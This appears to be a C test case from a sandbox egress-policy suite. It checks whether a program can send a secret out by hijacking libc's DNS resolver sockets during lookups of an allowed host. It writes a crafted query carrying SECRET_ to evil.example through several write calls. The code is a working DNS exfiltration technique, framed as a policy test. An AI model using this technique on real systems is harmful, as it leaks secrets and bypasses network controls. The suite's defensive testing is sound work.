// class: network
// rule: outbound_connectivity
// policy: lookups.yaml
// success: a C program writes to libc's socket, by every call, during the older lookups and the
//   resolver's own functions
// proof: query
// needs: resolver
// quiet: no other thread has an fd for what libc opens in a lookup
// alerts: true
// timeout: 60
#include "attack.h"
#include <netdb.h>
#include <pthread.h>
#include <resolv.h>
#include <sys/stat.h>
#include <sys/uio.h>

static volatile int which, over;

static void *look_up(void *unused)
{
    unsigned char answer[1024];
    struct hostent host, *found;
    char buffer[4096];
    int error;
    while (!over) {
        switch (which) {
        case 0: gethostbyname("api.allowed.example"); break;
        case 1:
            gethostbyname2_r("api.allowed.example", AF_INET, &host, buffer, sizeof buffer, &found,
                             &error);
            break;
        case 2: res_query("api.allowed.example", 1, 1, answer, sizeof answer); break;
        case 3: res_search("api.allowed.example", 1, 1, answer, sizeof answer); break;
        case 4: getnetbyname("api.allowed.example"); break;
        }
    }
    return unused;
}

/* The socket at `fd`, where it asks a name server; else 0. */
static ino_t asking(int fd)
{
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    struct stat status;
    if (getpeername(fd, (struct sockaddr *)&peer, &size) != 0 || peer.sin_port != htons(53))
        return 0;
    return fstat(fd, &status) == 0 ? status.st_ino : 0;
}

static ssize_t leave(int call, int fd, unsigned char *question, size_t size)
{
    struct iovec vector = {question, size};
    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1};
    switch (call % 5) {
    case 0: return write(fd, question, size);
    case 1: return send(fd, question, size, 0);
    case 2: return writev(fd, &vector, 1);
    case 3: return sendmsg(fd, &message, 0);
    default: return syscall(SYS_write, fd, question, size);
    }
}

int main(void)
{
    unsigned char question[256] = "\x12\x34\1\0\0\1\0\0\0\0\0\0";
    size_t size = 12, length = strlen(SECRET_);
    question[size++] = length;
    memcpy(question + size, SECRET_, length);
    size += length;
    memcpy(question + size, "\4evil\7example\0\0\1\0\1", 18);
    size += 18;
    pthread_t thread;
    int first = dup(0), worked = 0;
    close(first);
    pthread_create(&thread, NULL, look_up, NULL);
    for (which = 0; which < 5; which++) {
        time_t end = time(NULL) + patience(4);
        int done = 0;
        while (done < 5 && time(NULL) < end)
            for (int fd = first; fd < first + 3; fd++) {
                ino_t before = asking(fd);
                if (before != 0 && leave(done, fd, question, size) == (ssize_t)size)
                    done += asking(fd) == before;
            }
        worked += done > 0;
    }
    over = 1;
    pthread_join(thread, NULL);
    return worked > 0 ? reached() : stopped("nothing came of it");
}
